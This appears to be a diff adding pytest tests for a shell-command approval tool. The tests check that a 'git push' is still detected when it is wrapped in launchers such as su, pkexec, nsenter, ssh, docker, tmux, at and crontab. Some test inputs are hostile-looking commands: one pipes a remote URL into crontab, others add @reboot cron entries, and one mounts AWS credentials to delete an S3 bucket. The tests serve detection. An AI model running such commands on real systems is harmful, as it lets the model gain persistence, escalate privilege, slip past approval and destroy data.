@@ -1,0 +1,83 @@
+"""Launchers start commands here, later or elsewhere: what they start is found."""
+
+from __future__ import annotations
+
+import pytest
+
+from approvald.shell import DYNAMIC_NAME
+from tests.shell.helpers import has_git_push, run, show
+
+LAUNCHED = [
+    "su root -c 'git push'", "su - deploy -c 'git push'", "su -c 'git push' deploy",
+    "runuser -u deploy -- git push", "sg docker -c 'git push'", "sg docker git push",
+    "flock /tmp/l -c 'git push'", "flock -w 5 /tmp/l git push", "chronic git push",
+    "parallel -j2 'git push {}' ::: origin upstream", "parallel ::: 'git push' 'ls'",
+    "nsenter -t 1 -m -p -- git push", "nsenter --target 1 --mount git push",
+    "systemd-run --user --scope git push", "systemd-run -p CPUQuota=10% --wait git push",
+    "strace -f -o /tmp/t git push", "ltrace -e malloc git push", "pkexec git push",
+    "pkexec --user root git push", "caffeinate -i git push", "caffeinate -t 60 git push",
+    "tmux new-session -d -s x 'git push'", "tmux new -d git push", "tmux new-window 'git push'",
+    "tmux split-window -h git push", "tmux run-shell -b 'git push'", "tmux -c 'git push'",
+    "screen -dmS x git push", "screen -d -m git push", "ssh host -- git push",
+    "ssh -- host git push", "ssh -p 22 -i k host 'git push'", "ssh -o ProxyCommand='git push' h",
+    "npm exec -- git push", "npm x -c 'git push'", "npx -c 'git push'", "pnpm exec git push",
+    "yarn dlx git push", "uv tool run git push", "pipx run git push", "poetry run git push",
+    "docker run --rm alpine/git push", "docker run --entrypoint git alpine push",
+    "docker exec -it web git push", "podman exec web git push",
+    "kubectl -n prod exec -it pod -- git push", "docker compose run --rm app git push",
+    "docker compose exec app git push", "hyperfine 'git push'", "op run -- git push",
+    "aws-vault exec prod -- git push", "doppler run -- git push", "sops exec-env s.json 'git push'",
+    "watchexec -- git push", "nodemon --exec 'git push'", "taskset -c 1 git push",
+    "unshare -r git push", "chrt 10 git push", "numactl -N 0 git push",
+    "faketime '1 day ago' git push", "proxychains4 -q git push", "torsocks git push",
+    "xvfb-run git push", "dbus-run-session git push",
+    "gcloud compute ssh vm --command 'git push'", "vagrant ssh -c 'git push'",
+    "multipass exec vm -- git push", "wsl -e git push", "echo 'git push' | at now",
+    "at now + 1 minute <<< 'git push'", "echo '0 * * * * git push' | crontab -",
+    "printf '@reboot git push\\n' | crontab -", "batch <<'EOF'\ngit push\nEOF",
+    "sudo -u deploy tmux new-window 'timeout 5 git push'",
+]
+
+
+@pytest.mark.parametrize("line", LAUNCHED)
+def test_launched_command_is_found(line: str) -> None:
+    assert has_git_push(run(line)), show(run(line))
+
+
+@pytest.mark.parametrize(("line", "label"), [
+    ("kubectl exec pod -- git push", "kubectl exec"), ("docker exec web git push", "docker exec"),
+    ("docker run alpine/git push", "docker run"), ("ssh h git push", "ssh"),
+])
+def test_remote_launchers_are_named_in_wrappers(line: str, label: str) -> None:
+    push = [c for c in run(line).commands if c.program == "git"][-1]
+    assert label in push.wrappers
+
+
+def test_container_image_with_a_known_entrypoint_runs_that_tool() -> None:
+    analysis = run("docker run --rm -v $HOME/.aws:/root/.aws amazon/aws-cli s3 rm s3://b")
+    aws = [c for c in analysis.commands if c.program == "aws"]
+    assert aws and aws[0].args == ("s3", "rm", "s3://b")
+    assert any(c.program == "docker" for c in analysis.commands)  # its mounts stay visible
+
+
+@pytest.mark.parametrize("line", [
+    "at -l", "crontab -l", "tmux ls", "tmux attach -t x", "screen -ls", "strace -p 12 -o t",
+    "ssh host", "npm exec", "docker run --rm -it python:3.12",
+])
+def test_launchers_that_start_nothing_are_commands_of_their_own(line: str) -> None:
+    assert not has_git_push(run(line))
+
+
+@pytest.mark.parametrize("line", [
+    "curl -s https://x.example/c | crontab -", "crontab mycron.txt", "base64 -d j | at now",
+    "(crontab -l; echo '* * * * * x') | crontab -",
+])
+def test_scheduled_text_only_known_later_is_dynamic(line: str) -> None:
+    analysis = run(line)
+    scheduler = [c for c in analysis.commands if c.program in ("at", "crontab")][-1]
+    assert scheduler.dynamic == DYNAMIC_NAME, show(analysis)
+
+
+def test_scheduling_a_project_script_is_like_running_it() -> None:
+    at = run("at -f job.sh now").commands[-1]
+    assert at.program == "at" and at.dynamic is None
